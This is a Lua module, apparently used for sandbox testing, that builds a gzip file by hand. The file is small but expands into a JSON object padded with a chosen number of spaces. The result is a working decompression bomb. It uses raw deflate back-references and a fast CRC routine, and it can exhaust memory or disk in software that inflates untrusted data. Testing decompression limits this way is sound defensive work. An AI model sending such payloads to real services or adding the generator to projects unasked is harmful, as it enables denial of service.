--- A small gzip of a large JSON text, made without a compressor.
-- The text is `{"padding":"` with as many spaces as it takes and `"}`. Its spaces are matches of 258
-- bytes at distance one: eight of them fill 13 bytes, which are repeated.
-- @module sapanywhere.sandbox.gzip_bomb

local bit = require "bit"

local gzip_bomb = {}

local head, tail = '{"padding":"', '"}'
local match_bits = "1100010100000"

local function crc_step(state, byte)
  state = bit.bxor(state, byte)
  for _ = 1, 8 do
    local odd = bit.band(state, 1) == 1
    state = bit.rshift(state, 1)
    if odd then state = bit.bxor(state, 0xEDB88320) end
  end
  return state
end

local function crc_text(state, text)
  for index = 1, #text do state = crc_step(state, text:byte(index)) end
  return state
end

-- An affine map on 32 bits: the images of the single bits, and a constant.
local function apply_map(map, state)
  local out = 0
  for index = 0, 31 do
    if bit.band(state, bit.lshift(1, index)) ~= 0 then out = bit.bxor(out, map[index]) end
  end
  return bit.bxor(out, map.constant)
end

local function compose_maps(map, other)
  local result = { constant = apply_map(map, other.constant) }
  for index = 0, 31 do result[index] = bit.bxor(apply_map(map, other[index]), map.constant) end
  return result
end

local function crc_spaces(state, count)
  local map = { constant = crc_step(0, 32) }
  for index = 0, 31 do map[index] = bit.bxor(crc_step(bit.lshift(1, index), 32), map.constant) end
  while count > 0 do
    if count % 2 == 1 then state = apply_map(map, state) end
    map, count = compose_maps(map, map), math.floor(count / 2)
  end
  return state
end

local function little_endian(number, count)
  local out = {}
  for index = 1, count do
    out[index] = string.char(number % 256)
    number = math.floor(number / 256)
  end
  return table.concat(out)
end

local function stored(text)
  return little_endian(#text, 2) .. little_endian(65535 - #text, 2) .. text
end

local function pack_bits(bits)
  return ((bits .. ("0"):rep(-#bits % 8)):gsub("%d%d%d%d%d%d%d%d", function(byte)
    return string.char(tonumber(byte:reverse(), 2))
  end))
end

local function matches(count)
  local start = "010" -- not the last block, fixed codes
  local finish = "0000000" .. "100" -- end of this block; the last block, stored
  local period = pack_bits((start .. match_bits:rep(16)):sub(1, 13 * 16)):sub(14, 26)
  local rounds = math.floor(count / 8)
  if rounds == 0 then return pack_bits(start .. match_bits:rep(count) .. finish) end
  local first = pack_bits((start .. match_bits:rep(8)):sub(1, 13 * 8))
  local rest = (start .. match_bits:rep(8)):sub(13 * 8 + 1) .. match_bits:rep(count % 8)
  return first .. period:rep(rounds - 1) .. pack_bits(rest .. finish)
end

--- Makes the gzip.
-- @tparam number size of the text, at least 15
-- @treturn string
function gzip_bomb.make(size)
  local spaces = math.max(size - #head - #tail, 1)
  local loose = (spaces - 1) % 258 + 1
  local crc = crc_text(-1, head)
  crc = bit.bnot(crc_text(crc_spaces(crc, spaces), tail))
  return "\31\139\8\0\0\0\0\0\0\255\0" .. stored(head .. (" "):rep(loose))
    .. matches((spaces - loose) / 258) .. stored(tail)
    .. little_endian(crc % 2 ^ 32, 4) .. little_endian((#head + spaces + #tail) % 2 ^ 32, 4)
end

return gzip_bomb
